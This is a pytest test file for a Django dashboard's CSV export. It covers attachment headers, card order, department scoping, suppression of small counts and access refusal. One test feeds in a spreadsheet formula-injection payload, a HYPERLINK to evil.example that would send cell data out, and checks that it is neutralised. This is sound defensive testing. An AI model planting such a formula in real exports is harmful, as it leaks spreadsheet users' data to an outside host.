"""The CSV export of a dashboard: the cards as rows, as an attachment, for the report's
readers only, with text a spreadsheet would run as a formula neutralised."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from esm import clock
from reporting.models import Audience
from tests.reporting.factories import MeasureFactory, SnapshotFactory
from tests.reporting.test_dashboards import report_for

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)
DAY = NOW.date()


@pytest.fixture(autouse=True)
def _now():
    with clock.travel(NOW):
        yield


def export(client, user, report, **query):
    client.force_login(user)
    return client.get(reverse("report_export", args=[report.slug]), query)


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_export_is_an_attachment_with_one_row_per_card_in_order(client, executive):
    attainment = MeasureFactory(key="end_to_end_attainment", name="Promises kept", target=0.9)
    volume = MeasureFactory(key="request_volume", name="Requests raised", target=None)
    report = report_for(Audience.Members.EXECUTIVES, slug="outcomes", measures=[volume, attainment])
    SnapshotFactory(measure=attainment, day=DAY, value=0.95, cases=40)
    SnapshotFactory(measure=volume, day=DAY, value=130.0, cases=130)

    response = export(client, executive, report)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="outcomes-2026-11-20.csv"'
    header, *lines = rows(response)
    assert header[:3] == ["report", "scope", "measure"]
    assert [line[2] for line in lines] == ["Requests raised", "Promises kept"]
    assert [line[header.index("value")] for line in lines] == ["130.0", "0.95"]
    assert [line[header.index("status")] for line in lines] == ["no-target", "met"]
    assert {line[header.index("scope")] for line in lines} == {"Whole enterprise"}


def test_a_formula_in_a_measure_name_comes_out_neutralised(client, executive):
    sly = MeasureFactory(
        key="request_volume",
        name='=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        decision="+SUM(1,2)",
        decision_maker="@boss",
    )
    report = report_for(Audience.Members.EXECUTIVES, measures=[sly])

    (_, line) = rows(export(client, executive, report))

    assert line[2] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    assert "'+SUM(1,2)" in line
    assert "'@boss" in line


def test_the_export_reads_the_department_chosen_and_refuses_others(
    client, it_department, hr_department, it_agent
):
    attainment = MeasureFactory(key="end_to_end_attainment", name="Promises kept")
    report = report_for(Audience.Members.DEPARTMENT_STAFF, slug="queues", measures=[attainment])
    SnapshotFactory(
        measure=attainment,
        day=DAY,
        scope=f"department:{it_department.pk}",
        department=it_department,
        value=0.7,
        cases=9,
    )

    response = export(client, it_agent, report)
    (_, line) = rows(response)
    assert line[1] == "IT"
    assert line[6] == "0.7"
    assert 'filename="queues-it-2026-11-20.csv"' in response["Content-Disposition"]

    assert export(client, it_agent, report, department=hr_department.pk).status_code == 404


def test_a_held_back_figure_is_an_empty_cell_with_its_reason(client, superuser, it_department):
    attainment = MeasureFactory(key="end_to_end_attainment", name="Promises kept")
    report = report_for(Audience.Members.DEPARTMENT_STAFF, measures=[attainment])
    SnapshotFactory(
        measure=attainment,
        day=DAY,
        scope=f"department:{it_department.pk}",
        department=it_department,
        value=0.67,
        cases=3,
    )

    header, line = rows(export(client, superuser, report, department=it_department.pk))

    assert line[header.index("value")] == ""
    assert line[header.index("cases")] == ""  # for a count, the cases are the figure
    assert line[header.index("status")] == "too-few"
    assert "0.67" not in line


@pytest.mark.parametrize("persona", ["employee", "it_agent", "department_manager"])
def test_the_export_does_not_exist_for_who_may_not_read_the_report(request, client, persona):
    report = report_for(Audience.Members.EXECUTIVES)

    response = export(client, request.getfixturevalue(persona), report)

    assert response.status_code == 404
    assert "Content-Disposition" not in response
